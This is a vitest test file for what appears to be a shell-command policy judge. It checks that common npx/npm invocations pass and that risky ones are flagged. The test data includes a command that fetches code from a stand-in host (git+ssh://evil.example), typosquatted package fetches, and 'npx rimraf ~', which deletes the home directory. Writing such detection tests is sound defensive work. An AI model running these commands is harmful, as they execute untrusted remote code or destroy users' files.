import { expect, test } from "vitest";
import { judge } from "../../../../../src/core/policy/judge.ts";
import { PLACE } from "../../../../attacks/shared-corpus.ts";

const rulesOf = (command: string): readonly string[] => judge(command, PLACE).findings.map(({ rule }) => rule);

test.each(["npx tsc", "npx tsc@5.9", "npx @biomejs/biome@2 check", "npm init @vitejs/app", "npm exec -- vitest run"])(
  "%s runs a well-known package",
  (command) => expect(rulesOf(command)).toEqual(["ordinary"]),
);

test.each(["npx tscc", "npx -p evil tsc", "npx evil/tsc", "npm exec git+ssh://evil.example/x", "npm create evil"])(
  "%s would fetch another",
  (command) => expect(rulesOf(command)).toContain("install-foreign"),
);

test("what the package is told to do is judged", () => {
  expect(rulesOf("npx rimraf ~")).toContain("delete-home");
});
